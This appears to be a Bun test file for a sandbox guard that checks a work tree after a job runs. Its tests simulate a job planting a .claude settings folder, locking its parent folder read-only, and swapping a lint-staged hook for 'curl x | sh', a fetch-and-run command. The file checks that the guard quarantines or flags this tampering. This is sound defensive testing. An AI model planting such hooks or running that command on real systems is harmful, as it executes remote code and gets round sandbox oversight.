import { describe, expect, test } from "bun:test";
import {
  chmodSync,
  chownSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from "node:fs";
import { join, resolve } from "node:path";
import { prepareTreeGuard } from "../../src/sandbox/index.ts";
import { runGroup } from "../../src/sys/process.ts";
import { tempDir } from "../helpers/dl.ts";
import { TOOLS } from "../helpers/run-as.ts";
import { HOST_ENV } from "./file-tree.ts";

/**
 * The verdict after a job fails closed (tree-verdict.ts, move-out.ts, tree-guard.ts): a
 * job that makes its planted entry hard to move (`chmod a-w` on the folder holding it)
 * still has it moved out, and what dl cannot move, or a quarantine folder it cannot make,
 * still fails the job `jail_git_tampered`, naming what remains in the work tree.
 */

const ENV = HOST_ENV;
const SRC = resolve(import.meta.dir, "../../src/sandbox");
const isRoot = process.getuid?.() === 0;
const NOBODY = 65534;

/** The job's side and dl's verdict in one process of the job's uid (the delegate's, an ordinary user's). */
const SCRIPT = `
import { chmodSync, mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { scanTree } from "${SRC}/tree-scan.ts";
import { judgeTree } from "${SRC}/tree-verdict.ts";
const [root, quarantine] = process.argv.slice(2);
const before = await scanTree(root, { ignored: new Set() });
mkdirSync(join(root, "pkg/.claude/agents"), { recursive: true });
writeFileSync(join(root, "pkg/.claude/settings.json"), '{"hooks":{}}');
chmodSync(join(root, "pkg/.claude/agents"), 0o555);
chmodSync(join(root, "pkg/.claude"), 0o555);
chmodSync(join(root, "pkg"), 0o555);
const v = judgeTree(before, await scanTree(root, { ignored: new Set() }), { named: [], quarantine: () => quarantine });
console.log(JSON.stringify(v));
`;

describe("after-job verdict, fail closed", () => {
  test("a planted folder in a folder the job made read-only is moved out, and the folder's mode kept", async () => {
    const base = mkdtempSync("/var/tmp/dl-verdict-");
    try {
      const root = join(base, "w");
      const quarantine = join(base, "q");
      mkdirSync(join(root, "pkg"), { recursive: true });
      mkdirSync(quarantine, { mode: 0o700 });
      writeFileSync(join(base, "job.ts"), SCRIPT);
      // One file the job's uid may read (the source tree may be closed to it, as a mutation run's is).
      const built = await Bun.build({ entrypoints: [join(base, "job.ts")], target: "bun" });
      writeFileSync(join(base, "job.js"), await built.outputs[0]!.text());
      chmodSync(base, 0o755);
      const argv = [process.execPath, join(base, "job.js"), root, quarantine];
      if (isRoot) for (const p of [root, join(root, "pkg"), quarantine]) chownSync(p, NOBODY, NOBODY);
      const run = Bun.spawnSync(
        isRoot ? [TOOLS.setpriv, `--reuid=${NOBODY}`, `--regid=${NOBODY}`, "--clear-groups", ...argv] : argv,
        { env: { ...ENV, HOME: base }, stdout: "pipe", stderr: "pipe" },
      );
      expect(run.stderr.toString()).toBe("");
      const v = JSON.parse(run.stdout.toString());
      expect(v.changed).toEqual(["pkg/.claude (new)"]);
      expect(v.remaining).toEqual([]);
      expect(existsSync(join(root, "pkg/.claude"))).toBe(false);
      expect(readFileSync(join(quarantine, "pkg/.claude/settings.json"), "utf8")).toBe('{"hooks":{}}');
      expect(statSync(join(root, "pkg")).mode & 0o777).toBe(0o555);
    } finally {
      Bun.spawnSync(["chmod", "-R", "u+w", base]);
      rmSync(base, { recursive: true, force: true });
    }
  });

  test("a quarantine folder that cannot be made: the job fails, naming what stays, and hook keys are put back", async () => {
    const w = tempDir("verdict-noq");
    await runGroup({ argv: ["git", "init", "-q"], cwd: w, env: ENV });
    writeFileSync(join(w, "package.json"), '{\n  "lint-staged": { "*.ts": "biome check" }\n}\n');
    const guard = await prepareTreeGuard(w, {
      home: ENV.HOME,
      env: ENV,
      quarantine: () => {
        throw new Error("ENOSPC: no space left on device, mkdir '/q/1'");
      },
    });
    mkdirSync(join(w, "sub/.claude"), { recursive: true });
    writeFileSync(join(w, "sub/.claude/settings.json"), "{}");
    writeFileSync(join(w, "package.json"), '{\n  "lint-staged": { "*.ts": "curl x | sh" }\n}\n');
    const v = await guard.finish();
    expect(v.tamper?.failureKind).toBe("jail_git_tampered");
    expect(v.tamper?.changed).toContain(
      "sub/.claude (could not be moved out: no quarantine folder: ENOSPC: no space left on device, mkdir '/q/1')",
    );
    expect(v.tamper?.message).toContain(
      "dl could not move sub/.claude out of the work tree; do not run git there before you remove it",
    );
    expect(existsSync(join(w, "sub/.claude/settings.json"))).toBe(true);
    expect(JSON.parse(readFileSync(join(w, "package.json"), "utf8"))["lint-staged"]["*.ts"]).toBe("biome check");
  });
});
